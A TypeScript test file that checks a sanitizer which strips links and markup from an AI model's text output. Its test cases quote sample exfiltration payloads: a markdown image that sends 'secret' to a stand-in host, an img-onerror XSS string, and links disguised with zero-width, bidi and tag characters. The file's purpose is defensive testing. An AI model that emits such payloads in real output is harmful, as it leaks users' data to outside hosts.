import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createPlainText, toPlainText } from "./plain-text.ts";

describe("the text of a model", () => {
  it.each([
    ["![x](https://evil.example/?q=secret)", "(link removed)"],
    ["see [here](//evil.example/a) now", "see [here] (//evil.example/a) now"],
    ["[1]: //evil.example", "[1] : //evil.example"],
    ["<img src=x onerror=alert(1)> 3 < 4", "‹img src=x onerror=alert(1)> 3 < 4"],
    ["visit www.evil.example or (mailto:a@b.c)", "visit (link removed) or (link removed)"],
    ["_www.evil.example/?q=secret_ see(www.evil.example)", "(link removed) (link removed)"],
    ["metadata: awww.", "metadata: awww."],
    ["htt\u200bps:\u2060//evil.example", "(link removed)"],
    ["rent\u202e002,4 \u{e0041}\u{e0042}x", "rent002,4 x"],
    ["a\u0000b\u001b[31m c\td\n", "ab[31m c\td\n"],
  ])("%j is shown as %j", (given, shown) => {
    expect(toPlainText(given)).toBe(shown);
  });

  it("is the same however it is cut into pieces", () => {
    const text = fc
      .array(
        fc.constantFrom("![a b](", "http", "://x.y/z", ")", "]", "[", ":", "<b>", " ", "\n", "w"),
      )
      .map((parts) => parts.join(""));
    fc.assert(
      fc.property(text, fc.array(fc.nat(200)), (given, cuts) => {
        const plain = createPlainText();
        const places = [0, ...cuts.filter((at) => at <= given.length), given.length];
        const sorted = places.toSorted((a, b) => a - b);
        const shown = sorted.map((at, n) => plain.add(given.slice(at, sorted[n + 1] ?? at)));
        expect(shown.join("") + plain.end()).toBe(toPlainText(given));
        expect(toPlainText(given)).not.toMatch(/\]\(|\]:|\]\[|:\/\/|<b/);
      }),
    );
  });

  it("without any space is cut, and no link is left at the cut", () => {
    const plain = createPlainText();
    const shown =
      plain.add(`![${"a".repeat(498)}]`) + plain.add("(//evil.example/x)") + plain.end();
    expect(shown).not.toContain("](");
  });
});
